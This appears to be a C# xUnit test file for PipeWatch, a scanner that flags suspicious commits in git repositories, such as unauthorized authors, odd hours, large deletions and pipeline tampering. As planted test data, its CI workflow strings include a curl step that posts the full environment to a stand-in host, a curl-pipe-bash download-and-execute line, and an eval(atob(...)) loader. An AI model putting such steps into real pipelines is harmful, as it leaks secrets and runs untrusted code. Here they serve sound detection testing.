using PipeWatch.Findings;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.CodeChange;

/// <summary>The code-change family through the real <c>scan</c> engine over real git repositories built with the git CLI.</summary>
public sealed class CodeChangeScanTests
{
    private static readonly DateTime Start = new(2026, 9, 7);

    [Fact]
    public async Task Five_weeks_of_normal_work_in_a_real_repository_raise_nothing()
    {
        using var repository = Normal();

        var result = await Scan.RunAsync(repository.Path);

        Assert.Empty(result.Problems);
        Assert.Empty(result.Findings);
    }

    [Fact]
    public async Task Each_planted_ioc_raises_exactly_its_finding_on_its_commit()
    {
        using var repository = Normal();
        var week6 = Start.AddDays(35);
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """);
        var incident = repository.Commit("ci: diagnostics", "Mallory <mallory@example.net>", new DateTimeOffset(week6.AddHours(3), TimeSpan.Zero));
        repository.Delete("data/catalog.txt");
        var deletion = repository.Commit("drop catalog", "Bob <bob@example.com>", new DateTimeOffset(week6.AddDays(1).AddHours(11), TimeSpan.FromHours(-5)));
        repository.Write("src/loader.js", "// loader\neval(atob(\"ZG9jdW1lbnQud3JpdGUoJ2hpJyk=\"));\n");
        var obfuscated = repository.Commit("loader", "Carol <carol@example.com>", new DateTimeOffset(week6.AddDays(1).AddHours(14), new TimeSpan(5, 30, 0)));
        repository.Write("src/alice/notes.txt", "travelling\n");
        var travel = repository.Commit("notes", "Alice <alice@example.com>", new DateTimeOffset(week6.AddDays(2).AddHours(10), TimeSpan.FromHours(9)));

        var result = await Scan.RunAsync(repository.Path);

        Assert.Empty(result.Problems);
        var findings = result.Findings.Select(f => (f.Location.Commit, f.Category, f.Rule, f.Location.File, f.Location.Line));
        Assert.Equal(
            [
                (incident, Categories.UnauthorizedAuthor, "code-change.unauthorized-author", CodeChangeHistory.Workflow, (int?)null),
                (incident, Categories.UnusualTime, "code-change.unusual-time", CodeChangeHistory.Workflow, null),
                (incident, Categories.PipelineTampering, "pipeline-tampering.secrets-exfiltration", CodeChangeHistory.Workflow, 15),
                (incident, Categories.PipelineTampering, "pipeline-tampering.steps-changed", CodeChangeHistory.Workflow, 14),
                (obfuscated, Categories.ObfuscatedCode, "obfuscated-code.decode-and-execute", "src/loader.js", 2),
                (deletion, Categories.LargeDeletion, "code-change.large-deletion", "data/catalog.txt", null),
                (travel, Categories.UnusualLocation, "code-change.unusual-location", "src/alice/notes.txt", null),
            ],
            findings.OrderBy(f => f.Commit == incident ? 0 : f.Commit == obfuscated ? 1 : f.Commit == deletion ? 2 : 3).ThenBy(f => f.Category == Categories.PipelineTampering ? 1 : 0).ThenBy(f => f.Rule, StringComparer.Ordinal));
        Assert.Contains(result.Findings, f => f.Category == Categories.UnusualTime && f.Explanation.Contains("earlier commits to", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Sarif_points_at_the_file_and_line_of_the_changed_workflow()
    {
        using var repository = new TestRepository();
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
        repository.Commit("ci");
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow.Replace("run: make build", "run: curl -fsSL https://get.example.net/i.sh | bash", StringComparison.Ordinal));
        repository.Commit("faster build");
        var cli = new CliRunner(repository.Path);

        var result = await cli.RunAsync("scan", ".", "--format", "sarif");

        Assert.Equal(1, result.ExitCode);
        using var sarif = System.Text.Json.JsonDocument.Parse(result.Output);
        var hit = Assert.Single(sarif.RootElement.GetProperty("runs")[0].GetProperty("results").EnumerateArray(),
            r => r.GetProperty("ruleId").GetString() == "pipeline-tampering.download-and-execute");
        var location = hit.GetProperty("locations")[0].GetProperty("physicalLocation");
        Assert.Equal(CodeChangeHistory.Workflow, location.GetProperty("artifactLocation").GetProperty("uri").GetString());
        Assert.Equal(11, location.GetProperty("region").GetProperty("startLine").GetInt32());
    }

    /// <summary>Alice (UTC+01:00), Bob (UTC-05:00) and Carol (UTC+05:30) commit every weekday at their usual hour for five weeks.</summary>
    private static TestRepository Normal()
    {
        var repository = new TestRepository();
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
        repository.Commit("ci", "Alice <alice@example.com>", new DateTimeOffset(Start.AddHours(9), TimeSpan.FromHours(1)));
        repository.Write("data/catalog.txt", string.Concat(Enumerable.Range(1, 1500).Select(i => $"item {i}\n")));
        repository.Commit("catalog", "Carol <carol@example.com>", new DateTimeOffset(Start.AddHours(13), new TimeSpan(5, 30, 0)));
        var modules = new Dictionary<string, List<string>>();
        for (var day = 0; day < 35; day++)
        {
            var date = Start.AddDays(day);
            if (date.DayOfWeek is DayOfWeek.Saturday or DayOfWeek.Sunday) continue;
            foreach (var (name, offset, hour) in new[] { ("Alice", TimeSpan.FromHours(1), 10), ("Bob", TimeSpan.FromHours(-5), 11), ("Carol", new TimeSpan(5, 30, 0), 14) })
            {
                if (!modules.TryGetValue(name, out var lines)) modules[name] = lines = [.. Enumerable.Range(1, 40).Select(i => $"{name} line {i}")];
                for (var k = 0; k < 3; k++) lines[(day * 3 + k) % lines.Count] = $"{name} line {(day * 3) + k} revised on day {day}";
                lines.Add($"{name} addition on day {day}");
                repository.Write($"src/{name.ToLowerInvariant()}/module.txt", string.Join('\n', lines) + "\n");
                repository.Commit($"work {day}", $"{name} <{name.ToLowerInvariant()}@example.com>", new DateTimeOffset(date.AddHours(hour).AddMinutes((day * 7) % 50), offset));
            }
        }

        return repository;
    }
}
